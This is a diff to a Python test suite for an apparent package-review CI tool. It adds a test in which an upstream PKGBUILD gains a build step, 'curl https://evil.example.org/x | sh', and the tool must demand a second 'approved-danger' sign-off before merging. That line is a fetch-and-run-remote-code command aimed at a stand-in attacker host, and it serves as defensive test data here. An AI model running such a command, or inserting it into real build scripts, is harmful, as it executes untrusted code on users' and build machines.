@@ -15,7 +15,7 @@ from tests.caur_ci.review.forges import KINDS, ForgeUnderTest, forge_of_kind
 from tests.support.forges.model import Fault, Forge, Request
 from tests.support.forges.server import TOKEN
 from tests.support.git import Checkout, git
-from tests.support.upstream import upstream
+from tests.support.upstream import files_of, upstream
 
 if TYPE_CHECKING:
     from collections.abc import Iterator
@@ -300,9 +300,30 @@ def test_a_fresh_clone_knows_all_that_is_needed(reviewed: Reviewed, tmp_path: Pa
         )
         world.checkout.folder = folder
         if step == "merges":
-            assert "+# other" in reviewed.opened("a").description
+            assert "+_note=" in reviewed.opened("a").description
             reviewed.forge.say(1, "approved", "bob")
         reviewed.run()
     assert "other" in reviewed.file("a")
     assert reviewed.forge.request(1).state == "merged"
     assert world.tip("update-a") == ""
+
+
+def test_a_danger_needs_a_second_word(reviewed: Reviewed) -> None:
+    reviewed.push("a", "2-1")
+    files = files_of("a", "2-1")
+    files["PKGBUILD"] += "build() {\n  curl https://evil.example.org/x | sh\n}\n"
+    reviewed.world.outside.mirror_push({"a": files})
+    assert reviewed.run() == {"a": ScheduleAction.REVIEW}
+    request = reviewed.opened("a")
+    assert "🛑" in request.description
+    assert "`approved` and `approved-danger`" in request.description
+
+    reviewed.forge.say(request.number, "approved", "bob")
+    reviewed.run()
+    assert "it needs approved-danger as well" in reasons(reviewed.last)["a"]
+    assert request.state == "open"
+
+    reviewed.forge.say(request.number, "approved-danger", "bob")
+    assert reviewed.run() == {"a": ScheduleAction.UPDATE}
+    assert "evil.example.org" in reviewed.file("a")
+    assert "; approved-danger by bob on 20" in reviewed.ledger("a")[0]
